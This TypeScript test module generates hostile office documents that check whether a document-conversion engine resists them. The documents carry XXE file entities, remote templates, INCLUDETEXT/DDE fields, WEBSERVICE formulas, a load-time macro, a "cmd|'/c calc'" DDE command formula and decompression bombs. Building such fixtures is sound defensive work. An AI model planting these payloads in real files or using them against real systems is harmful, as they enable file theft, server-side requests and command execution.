import { odfPart, relationships, wordPart, zipOf } from '../../office-files.ts';
import { makePng } from '../../sample-files.ts';

type Parts = Readonly<Record<string, string | Uint8Array>>;
type Targets = Parameters<typeof relationships>[0];

const openXml = 'application/vnd.openxmlformats-officedocument';
const contentTypes = (parts: Readonly<Record<string, string>>): string =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>${Object.entries(
    parts,
  )
    .map(([name, type]) => `<Override PartName="/${name}" ContentType="${type}"/>`)
    .join('')}</Types>`;

/** A docx with relationships of its document part. */
const docx = (body: string, targets: Targets = {}, parts: Parts = {}): Uint8Array =>
  zipOf({
    '[Content_Types].xml': contentTypes({
      'word/document.xml': `${openXml}.wordprocessingml.document.main+xml`,
      'word/settings.xml': `${openXml}.wordprocessingml.settings+xml`,
    }),
    '_rels/.rels': relationships({ r: ['officeDocument', 'word/document.xml'] }),
    'word/_rels/document.xml.rels': relationships(targets),
    'word/document.xml': wordPart(
      'document',
      `<w:body><w:p><w:r><w:t>Visible</w:t></w:r></w:p>${body}</w:body>`,
    ),
    ...parts,
  });

const vmlImage = (id: string): string =>
  `<w:p><w:r><w:pict><v:shape style="width:50pt;height:50pt"><v:imagedata r:id="${id}"/></v:shape></w:pict></w:r></w:p>`;

const field = (instruction: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>stored</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const spreadsheetml = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const spreadsheet = (root: string, content: string): string =>
  `<${root} xmlns="${spreadsheetml}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">${content}</${root}>`;

/** An xlsx with these formulas, and links to a workbook (`[1]`) and to a program (`[2]`). */
const xlsx = (formulas: readonly string[], book: string): Uint8Array =>
  zipOf({
    '[Content_Types].xml': contentTypes({
      'xl/workbook.xml': 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
      'xl/sheet.xml': `${openXml}.spreadsheetml.worksheet+xml`,
      'xl/book.xml': `${openXml}.spreadsheetml.externalLink+xml`,
      'xl/dde.xml': `${openXml}.spreadsheetml.externalLink+xml`,
    }),
    '_rels/.rels': relationships({ r: ['officeDocument', 'xl/workbook.xml'] }),
    'xl/workbook.xml': spreadsheet(
      'workbook',
      '<sheets><sheet name="A" sheetId="1" r:id="s"/></sheets><externalReferences><externalReference r:id="b"/><externalReference r:id="d"/></externalReferences><calcPr fullCalcOnLoad="1"/>',
    ),
    'xl/_rels/workbook.xml.rels': relationships({
      s: ['worksheet', 'sheet.xml'],
      b: ['externalLink', 'book.xml'],
      d: ['externalLink', 'dde.xml'],
    }),
    'xl/sheet.xml': spreadsheet(
      'worksheet',
      `<sheetData><row><c t="inlineStr"><is><t>Visible</t></is></c>${formulas.map((formula) => `<c><f>${formula}</f></c>`).join('')}</row></sheetData>`,
    ),
    'xl/book.xml': spreadsheet(
      'externalLink',
      '<externalBook r:id="e"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>',
    ),
    'xl/_rels/book.xml.rels': relationships({ e: ['externalLinkPath', `!${book}`] }),
    'xl/dde.xml': spreadsheet(
      'externalLink',
      `<ddeLink ddeService="soffice" ddeTopic="${book}"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>`,
    ),
    'xl/vbaProject.bin': Buffer.alloc(512),
  });

const opendocument = 'application/vnd.oasis.opendocument';

/** An OpenDocument package. */
const odf = (kind: string, body: string, scripts = '', parts: Parts = {}): Uint8Array =>
  zipOf({
    mimetype: `${opendocument}.${kind}`,
    'content.xml': odfPart(
      'office:document-content',
      `${scripts}<office:body><office:${kind}>${body}</office:${kind}></office:body>`,
    ),
    'META-INF/manifest.xml': odfPart(
      'manifest:manifest',
      ['/', 'content.xml', ...Object.keys(parts)]
        .map(
          (path) =>
            `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="${path === '/' ? `${opendocument}.${kind}` : 'text/xml'}"/>`,
        )
        .join(''),
    ),
    ...parts,
  });

const odfImage = (address: string): string =>
  `<draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="${address}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>`;

const macro = odf(
  'text',
  '<text:p>Visible</text:p>',
  '<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:ooo="http://openoffice.org/2004/office" script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>',
  {
    'Basic/script-lc.xml':
      '<library:libraries xmlns:library="http://openoffice.org/2000/library"><library:library library:name="Standard" library:link="false"/></library:libraries>',
    'Basic/Standard/script-lb.xml':
      '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard"><library:element library:name="M"/></library:library>',
    'Basic/Standard/M.xml':
      '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">Sub Main\nThisComponent.Text.String = "SECRET"\nEnd Sub</script:module>',
  },
);

const nestedTables = (depth: number): string =>
  `${'<table:table><table:table-column/><table:table-row><table:table-cell>'.repeat(depth)}<text:p>Visible</text:p>${'</table:table-cell></table:table-row></table:table>'.repeat(depth)}`;

const repeated = (text: string, times: number): Uint8Array =>
  docx(`<w:p><w:r><w:t>${text.repeat(times)}</w:t></w:r></w:p>`);

/** A title, the declared format, a document, and the text of its pages or the error it ends with. */
type HostileFile = readonly [
  title: string,
  format: 'docx' | 'odt' | 'rtf' | 'xlsx' | 'ods' | 'odp' | 'doc' | 'pptx',
  bytes: Uint8Array,
  expected: RegExp | string,
];

/** Documents that try to reach `origin`, an address, and two files, or to exhaust the engine. */
export function hostileFiles(origin: string, image: string, text: string): HostileFile[] {
  const images = {
    a: ['image', `!${origin}/a.png`],
    b: ['image', `!file://${image}`],
    c: ['image', `!${image}`],
  } as const;
  const formulas = [
    `_xlfn.WEBSERVICE("${origin}/w")`,
    `_xlfn.WEBSERVICE("file://${text}")`,
    '[1]Sheet1!A1',
    '[2]!A0',
    "cmd|'/c calc'!A0",
  ];
  const cells = [
    `WEBSERVICE(&quot;${origin}/w&quot;)`,
    `'file://${text}'#$Sheet1.A1`,
    `DDE(&quot;soffice&quot;;&quot;${text}&quot;;&quot;A1&quot;)`,
  ].map((formula) => `<table:table-cell table:formula="of:=${formula}"/>`);
  const complete = docx('');
  return [
    [
      'a template at an address',
      'docx',
      docx(
        '',
        { s: ['settings', 'settings.xml'] },
        {
          'word/settings.xml': wordPart('settings', '<w:attachedTemplate r:id="t"/>'),
          'word/_rels/settings.xml.rels': relationships({ t: ['attachedTemplate', `!${origin}/t.dotm`] }),
        },
      ),
      /Visible/,
    ],
    ['linked images', 'docx', docx(['a', 'b', 'c'].map(vmlImage).join(''), images), /Visible/],
    [
      'fields that insert files',
      'docx',
      docx(
        [
          `INCLUDEPICTURE "${origin}/p.png" \\d`,
          `INCLUDETEXT "${text}"`,
          `DDEAUTO soffice "${text}" x`,
          `LINK Word.Document "${text}"`,
        ]
          .map(field)
          .join(''),
      ),
      /Visible\s+stored/,
    ],
    [
      'a subdocument',
      'docx',
      docx('<w:subDoc r:id="s"/>', { s: ['subDocument', `!${origin}/s.docx`] }),
      /Visible/,
    ],
    [
      'a linked object',
      'docx',
      docx(
        '<w:p><w:r><w:object><v:shape id="s" style="width:50pt;height:50pt"/><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.12" ShapeID="s" DrawAspect="Content" r:id="o" UpdateMode="Always"/></w:object></w:r></w:p>',
        { o: ['oleObject', `!file://${text}`] },
      ),
      /Visible/,
    ],
    [
      'an entity of a file',
      'docx',
      docx('', {}, { 'word/document.xml': `<!DOCTYPE a [<!ENTITY b SYSTEM "file://${text}">]><a>&b;</a>` }),
      'unsupported_content',
    ],
    ['a macro that runs when it is opened', 'odt', macro, /Visible/],
    [
      'links of all kinds',
      'odt',
      odf(
        'text',
        `<text:p>Visible ${odfImage(`${origin}/i.png`)}${odfImage(`file://${image}`)}</text:p><text:section text:name="s"><text:section-source xlink:href="file://${text}" text:filter-name="Text"/><text:p>stored</text:p></text:section><text:section text:name="d"><office:dde-source office:dde-application="soffice" office:dde-topic="${text}" office:dde-item="x" office:automatic-update="true"/><text:p>stored</text:p></text:section><text:p><draw:frame svg:width="3cm" svg:height="3cm"><draw:object xlink:href="file://${text}" xlink:actuate="onLoad"/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm"><draw:floating-frame xlink:href="${origin}/f.html" xlink:actuate="onLoad"/></draw:frame></text:p>`,
      ),
      /Visible[\s\S]*stored\s+stored/,
    ],
    [
      'linked images',
      'odp',
      odf(
        'presentation',
        `<draw:page draw:name="p">${odfImage(`${origin}/i.png`)}${odfImage(`file://${image}`)}<draw:frame svg:width="9cm" svg:height="2cm"><draw:text-box><text:p>Visible</text:p></draw:text-box></draw:frame></draw:page>`,
      ),
      /Visible/,
    ],
    [
      'fields that insert files',
      'rtf',
      Buffer.from(
        `{\\rtf1 Visible{\\field{\\*\\fldinst INCLUDEPICTURE "${origin}/r.png" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDEPICTURE "file://${image}" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "${text}"}{\\fldrslt stored}}{\\*\\template ${origin}/t.dot}}`,
      ),
      /Visible/,
    ],
    ['functions that fetch, links and a macro', 'xlsx', xlsx(formulas, `file://${text}`), /Visible/],
    [
      'functions that fetch and links',
      'ods',
      odf(
        'spreadsheet',
        `<table:table table:name="A"><table:table-row>${cells.join('')}<table:table-cell><text:p>Visible</text:p></table:table-cell></table:table-row></table:table><table:table table:name="B"><table:table-source xlink:href="file://${text}" table:filter-name="Text - txt - csv (StarCalc)"/></table:table>`,
      ),
      /Visible/,
    ],
    ['200 nested tables', 'odt', odf('text', nestedTables(200)), /Visible/],
    [
      'an image that unpacks to 300 MB',
      'docx',
      docx('', {}, { 'word/media/a.png': new Uint8Array(300_000_000) }),
      'too_complex',
    ],
    ['text that unpacks to 250 times its size', 'docx', repeated('a', 30_000_000), 'too_complex'],
    ['half a document', 'docx', complete.subarray(0, complete.length / 2), 'corrupt_document'],
    ['an archive of other files', 'docx', zipOf({ 'a.txt': 'a' }), 'corrupt_document'],
    ['an image', 'doc', makePng(4), 'corrupt_document'],
    [
      'a web page',
      'pptx',
      Buffer.from(`<!DOCTYPE html><img src="${origin}/h.png"><p>Visible</p>`),
      'corrupt_document',
    ],
    ['plain text', 'xlsx', Buffer.from('Visible\n'.repeat(20)), 'corrupt_document'],
  ];
}

/** A docx with a linked chunk, and with chunks that reference a server, an image and a text file. */
export const hostileChunks = (origin: string, image: string, text: string): Uint8Array =>
  docx(
    ['linked', 'html', 'inner', 'rtf'].map((id) => `<w:altChunk r:id="${id}"/>`).join(''),
    {
      linked: ['aFChunk', `!file://${text}`],
      html: ['aFChunk', 'a.html'],
      inner: ['aFChunk', 'b.docx'],
      rtf: ['aFChunk', 'c.rtf'],
    },
    {
      '[Content_Types].xml': contentTypes({
        'word/document.xml': `${openXml}.wordprocessingml.document.main+xml`,
        'word/a.html': 'text/html',
        'word/b.docx': `${openXml}.wordprocessingml.document.main+xml`,
        'word/c.rtf': 'application/rtf',
      }),
      'word/a.html': `<html><body><p>Chunk</p><img src="file://${image}"><img src="${origin}/a.png"><iframe src="file://${text}"></iframe><link rel=stylesheet href="${origin}/a.css"></body></html>`,
      'word/b.docx': docx(field(`INCLUDEPICTURE "${image}"`) + field(`INCLUDETEXT "${text}"`)),
      'word/c.rtf': `{\\rtf1 {\\field{\\*\\fldinst INCLUDETEXT "${text}"}{\\fldrslt stored}}\\par}`,
    },
  );
